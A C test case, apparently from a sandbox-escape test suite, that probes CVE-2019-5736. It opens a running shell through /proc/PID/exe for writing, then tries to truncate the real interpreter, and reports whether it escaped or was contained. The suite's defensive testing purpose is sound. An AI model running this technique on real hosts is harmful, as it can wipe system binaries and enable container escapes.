#include "attack.h"

// CVE-2019-5736: a program that runs is overwritten through /proc/PID/exe.
static void run(void) {
    int ends[2];
    if (pipe(ends) < 0) unjudged("pipe: %s", error_name(errno));
    pid_t child = fork();
    if (child == 0) {
        dup2(ends[0], 0);
        close(ends[1]);
        execl("/bin/sh", "sh", "-c", "read line", (char *)NULL);
        _exit(127);
    }
    close(ends[0]);
    char path[64], target[256];
    snprintf(path, sizeof path, "/proc/%d/exe", child);
    ssize_t length = -1;
    // Until the child has become the shell.
    for (int turn = 0; turn < 500; turn++) {
        length = readlink(path, target, sizeof target - 1);
        target[length < 0 ? 0 : length] = 0;
        if (length > 0 && strstr(target, "attack") == NULL) break;
        nap(2);
    }
    if (length <= 0 || strstr(target, "attack") != NULL) unjudged("no shell: %s is %s", path, target);
    int fd = open(path, O_WRONLY);
    int error = errno;
    close(ends[1]);
    waitpid(child, NULL, 0);
    if (fd >= 0) escaped("%s was opened for writing", target);
    // The file is not running any more: nothing but the file system is in the way.
    fd = open(target, O_WRONLY | O_TRUNC);
    if (fd >= 0) escaped("%s was cut to nothing", target);
    if (errno != EROFS) escaped("only %s stopped it to write to %s", error_name(errno), target);
    contained("opening %s through /proc answers %s, afterwards %s", target, error_name(error), error_name(errno));
}

ATTACK(.group = "files", .what = "overwrite a running interpreter through /proc/PID/exe (CVE-2019-5736)", .mode = ALONE, .run = run)
